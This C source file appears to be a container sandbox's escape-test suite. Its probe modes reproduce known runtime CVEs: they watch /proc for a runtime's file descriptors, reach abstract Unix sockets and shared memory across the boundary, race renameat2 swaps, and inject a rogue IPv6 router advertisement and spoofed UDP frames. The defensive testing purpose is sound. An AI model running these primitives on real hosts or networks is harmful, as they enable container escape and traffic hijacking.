/* SPDX-License-Identifier: Apache-2.0 */

/* What probes do that are no row of a table: they take two. */

#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "base/clock.h"
#include "tests/escape/probe.h"

/* ---- CVE-2016-9962, CVE-2016-8649 ----------------------------------------------------------- */

static void look_into(const char *pid)
{
	static const char *const names[] = {"exe", "cwd", "root", "fd/3"};
	char path[64], comm[32] = "", target[256];
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	file = fopen(path, "re");
	if (!file)
		return;
	if (!fgets(comm, sizeof(comm), file) || strncmp(comm, "ncrun", 5) != 0)
		comm[0] = '\0';
	fclose(file);
	for (size_t i = 0; comm[0] && i < sizeof(names) / sizeof(names[0]); i++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, names[i]);
		n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		/* It may have become its command by now, which is no secret. */
		if (strstr(target, "ncrun") || strchr(target, ':'))
			printf("%s -> %s\n", path, target);
	}
}

int mode_watch(int64_t ms)
{
	int64_t end = clock_now_ms() + ms;

	puts("watching");
	fflush(stdout);
	while (clock_now_ms() < end) {
		const struct dirent *entry;
		DIR *proc = opendir("/proc");

		while (proc && (entry = readdir(proc)))
			if (isdigit((unsigned char)entry->d_name[0]))
				look_into(entry->d_name);
		if (proc)
			closedir(proc);
	}
	return 0;
}

/* ---- CVE-2020-15257 -------------------------------------------------------------------------- */

static int abstract(const char *name, int (*use)(int, const struct sockaddr *, socklen_t))
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	strncpy(address.sun_path + 1, name, sizeof(address.sun_path) - 2);
	if (fd < 0 || use(fd, (struct sockaddr *)&address,
			  (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))))
		return -1;
	return fd;
}

/* Removed with us: nothing of the machine's may stay. */
int mode_listen(const char *name)
{
	int fd = abstract(name, bind);
	int memory = shmget(SHARED_MEMORY_KEY, 4096, IPC_CREAT | 0666);
	sigset_t ends;
	int signo;

	if (fd < 0 || listen(fd, 1) < 0 || memory < 0)
		return 1;
	sigemptyset(&ends);
	sigaddset(&ends, SIGTERM);
	sigprocmask(SIG_BLOCK, &ends, NULL);
	puts("listening");
	fflush(stdout);
	(void)sigwait(&ends, &signo);
	(void)shmctl(memory, IPC_RMID, NULL);
	return 0;
}

int mode_connect(const char *name)
{
	bool socket_is_there = abstract(name, connect) >= 0;
	bool memory_is_there = shmget(SHARED_MEMORY_KEY, 0, 0) >= 0;

	printf("%s%s\n", socket_is_there ? "socket " : "", memory_is_there ? "memory " : "");
	return 0;
}

/* ---- CVE-2021-30465, CVE-2024-45310 ------------------------------------------------------ */

int mode_exchange(char **names)
{
	puts("exchanging");
	fflush(stdout);
	for (;;)
		for (char **name = names; name[0] && name[1]; name += 2)
			(void)syscall(SYS_renameat2, AT_FDCWD, name[0], AT_FDCWD, name[1],
				      RENAME_EXCHANGE);
}

/* ---- CVE-2020-13401, and what only routers' neighbours see ------------------------------- */

/** struct frame - an Ethernet frame that is being put together */
struct frame {
	unsigned char bytes[256];
	size_t length;
};

static void put(struct frame *frame, const void *bytes, size_t size)
{
	memcpy(frame->bytes + frame->length, bytes, size);
	frame->length += size;
}

static uint32_t sum(uint32_t so_far, const void *bytes, size_t size)
{
	const unsigned char *byte = bytes;

	for (size_t i = 0; i < size; i++)
		so_far += (uint32_t)byte[i] << (i % 2 ? 0 : 8);
	while (so_far > 0xffff)
		so_far = (so_far & 0xffff) + (so_far >> 16);
	return so_far;
}

static uint16_t checksum(uint32_t so_far)
{
	return htons((uint16_t)~so_far);
}

/* RFC 4861: a router for half an hour, for 2001:db8:bad::/64, on which addresses make themselves.
 */
static void put_advertisement(struct frame *frame)
{
	static const unsigned char to[] = {0x33, 0x33, 0, 0, 0, 1}, type[] = {0x86, 0xdd};
	static const unsigned char from[] = {2, 0, 0, 0, 0xbad >> 8, 0xbad & 0xff};
	struct ip6_hdr ip = {.ip6_hops = 255};
	struct {
		struct nd_router_advert advert;
		struct nd_opt_prefix_info prefix;
	} message = {0};

	ip.ip6_flow = htonl(6u << 28);
	ip.ip6_plen = htons(sizeof(message));
	ip.ip6_nxt = IPPROTO_ICMPV6;
	inet_pton(AF_INET6, "fe80::bad", &ip.ip6_src);
	inet_pton(AF_INET6, "ff02::1", &ip.ip6_dst);
	message.advert.nd_ra_type = ND_ROUTER_ADVERT;
	message.advert.nd_ra_curhoplimit = 64;
	message.advert.nd_ra_router_lifetime = htons(1800);
	message.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	message.prefix.nd_opt_pi_len = 4;
	message.prefix.nd_opt_pi_prefix_len = 64;
	message.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	message.prefix.nd_opt_pi_valid_time = message.prefix.nd_opt_pi_preferred_time = htonl(1800);
	inet_pton(AF_INET6, "2001:db8:bad::", &message.prefix.nd_opt_pi_prefix);
	message.advert.nd_ra_cksum =
		checksum(sum(sum(sizeof(message) + IPPROTO_ICMPV6, &ip.ip6_src, 32), &message,
			     sizeof(message)));
	put(frame, to, sizeof(to));
	put(frame, from, sizeof(from));
	put(frame, type, sizeof(type));
	put(frame, &ip, sizeof(ip));
	put(frame, &message, sizeof(message));
}

/* To everybody on the wire, so that nobody's address has to be known. */
static void put_datagram(struct frame *frame, const char *from, const char *to, uint16_t port)
{
	static const unsigned char everybody[] = {255, 255, 255, 255, 255, 255}, type[] = {8, 0};
	static const unsigned char here[] = {2, 0, 0, 0, 0xb, 0xad};
	static const char text[] = "out";
	struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
	struct udphdr udp = {.uh_sport = htons(7), .uh_dport = htons(port)};

	ip.tot_len = htons(sizeof(ip) + sizeof(udp) + sizeof(text));
	udp.uh_ulen = htons(sizeof(udp) + sizeof(text)); /* without a checksum: it may be */
	inet_pton(AF_INET, from, &ip.saddr);
	inet_pton(AF_INET, to, &ip.daddr);
	ip.check = checksum(sum(0, &ip, sizeof(ip)));
	put(frame, everybody, sizeof(everybody));
	put(frame, here, sizeof(here));
	put(frame, type, sizeof(type));
	put(frame, &ip, sizeof(ip));
	put(frame, &udp, sizeof(udp));
	put(frame, text, sizeof(text));
}

int mode_inject(const char *interface, const char *address, const char *port)
{
	static const char *const sources[] = {"127.0.0.1", "192.0.2.2", "203.0.113.9", "0.0.0.0"};
	const char *const targets[] = {"127.0.0.1", address};
	struct sockaddr_ll link = {.sll_family = AF_PACKET,
				   .sll_ifindex = (int)if_nametoindex(interface)};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	int sent = 0;

	for (int i = -1; fd >= 0 && i < 8; i++) {
		struct frame frame = {.length = 0};

		if (i < 0)
			put_advertisement(&frame);
		else
			put_datagram(&frame, sources[i / 2], targets[i % 2],
				     (uint16_t)strtoul(port, NULL, 10));
		sent += sendto(fd, frame.bytes, frame.length, 0, (struct sockaddr *)&link,
			       sizeof(link)) == (ssize_t)frame.length;
	}
	printf("%d frames\n", sent);
	return sent != 9;
}
